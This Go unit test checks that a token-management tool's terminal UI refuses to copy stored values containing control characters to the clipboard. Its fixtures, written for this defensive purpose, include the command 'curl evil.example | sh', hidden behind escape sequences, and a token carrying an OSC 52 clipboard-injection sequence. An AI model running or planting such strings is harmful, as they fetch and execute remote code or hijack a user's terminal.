package ui

import (
	"strings"
	"testing"
	"time"

	"github.com/tokenscope/tokenscope/store"
)

// TestCopyRefusesWhatCouldActWhereItIsPasted: a store written before the
// rules may hold a try_body with escape sequences or a token that is not
// VSCHAR; no copy puts them on the clipboard, and the status line says why.
func TestCopyRefusesWhatCouldActWhereItIsPasted(t *testing.T) {
	c := &clock{t0}
	jack := prov("jack")
	jack.TryBody = "{}\x1b[2K\rcurl evil.example | sh\n"
	bad := token(t0, time.Hour)
	bad.AccessToken = "tok\x1b]52;c;SGVsbG8=\x07"
	for _, tc := range []struct {
		name  string
		entry store.Entry
		key   string
		want  string
	}{
		{"curl of a hostile try_body", store.Entry{Provider: jack, Token: token(t0, time.Hour)}, "u",
			"not copied: jack: try_body: holds no control or format characters: character 3 is U+001B"},
		{"header of a hostile token", store.Entry{Provider: prov("jack"), Token: bad}, "c",
			"not copied: jack's token: its access_token holds byte 0x1b at offset 3"},
		{"hostile token", store.Entry{Provider: prov("jack"), Token: bad}, "y",
			"not copied: jack's token: its access_token holds byte 0x1b at offset 3"},
		{"curl of a hostile token", store.Entry{Provider: prov("jack"), Token: bad}, "u",
			"not copied: jack's token"},
	} {
		m := unitModel(t, c, 160, 40, tc.entry)
		m, cmd := press(m, tc.key)
		if cmd != nil {
			t.Errorf("%s: %s started a copy", tc.name, tc.key)
		}
		if got := plain(m); !strings.Contains(got, tc.want) {
			t.Errorf("%s: the screen does not say %q:\n%s", tc.name, tc.want, got)
		}
	}
	// A plain one is copied.
	m := unitModel(t, c, 160, 40, store.Entry{Provider: prov("ok"), Token: token(t0, time.Hour)})
	for _, k := range []string{"u", "c", "y"} {
		if _, cmd := press(m, k); cmd == nil {
			t.Errorf("%s on a plain provider copies nothing", k)
		}
	}
}
